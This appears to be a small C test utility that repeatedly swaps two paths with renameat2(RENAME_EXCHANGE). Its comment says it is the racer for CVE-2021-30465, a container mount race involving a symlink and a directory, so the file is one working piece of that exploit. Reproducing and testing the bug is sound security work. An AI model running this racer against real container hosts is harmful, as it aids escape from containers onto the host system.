// SPDX-License-Identifier: GPL-2.0
/*
 * exchange A B SECONDS: swap A and B with renameat2(RENAME_EXCHANGE) in a
 * tight loop for SECONDS (the CVE-2021-30465 racer: a directory and a
 * symlink trading places while containers mount onto paths through them).
 * Prints the number of swaps when done or killed (SIGTERM).
 */
#include <fcntl.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/syscall.h>
#include <time.h>
#include <unistd.h>

#ifndef RENAME_EXCHANGE
#define RENAME_EXCHANGE (1 << 1)
#endif

static volatile sig_atomic_t stop;

static void on_term(int sig)
{
	(void)sig;
	stop = 1;
}

int main(int argc, char **argv)
{
	unsigned long n = 0;
	time_t end;

	if (argc != 4) {
		fprintf(stderr, "usage: exchange A B SECONDS\n");
		return 2;
	}
	signal(SIGTERM, on_term);
	end = time(NULL) + atoi(argv[3]);
	while (!stop && time(NULL) < end) {
		int i;

		for (i = 0; i < 1000; i++) {
			if (syscall(SYS_renameat2, AT_FDCWD, argv[1], AT_FDCWD, argv[2],
				    RENAME_EXCHANGE) < 0) {
				perror("renameat2");
				return 1;
			}
			n++;
		}
	}
	printf("%lu\n", n);
	return 0;
}
